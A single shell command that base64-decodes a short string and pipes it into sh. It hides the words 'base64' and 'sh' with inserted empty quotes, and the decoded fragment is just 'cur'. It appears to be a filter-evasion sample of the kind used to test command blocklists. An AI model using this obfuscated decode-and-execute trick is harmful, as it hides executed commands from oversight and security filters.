echo Y3Vy | ba''se64 -d | s""h
